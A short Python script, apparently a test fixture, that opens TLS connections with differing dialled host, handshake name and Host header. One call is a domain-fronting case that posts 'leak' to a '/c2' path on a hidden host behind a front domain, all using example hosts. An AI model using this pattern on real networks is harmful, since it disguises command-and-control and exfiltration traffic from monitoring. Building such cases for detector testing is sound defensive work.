# One name in the handshake, another in the request; a name looked up, another in the handshake.
import socket
import ssl

context = ssl.create_default_context()
context.check_hostname = False


def ask(dialled, named, asked):
    raw = socket.create_connection((dialled, 443))
    with context.wrap_socket(raw, server_hostname=named) as secure:
        secure.sendall(
            f"POST /c2 HTTP/1.1\r\nHost: {asked}\r\nConnection: close\r\nContent-Length: 4\r\n\r\nleak".encode()
        )
        while secure.recv(4096):
            pass


ask("cdn.front.example", "cdn.front.example", "hidden.behind.example")
ask("dialled.front.example", "named.front.example", "named.front.example")
ask("plain.example", "plain.example", "plain.example")
ask("plain.example", "plain.example", "PLAIN.example:443")
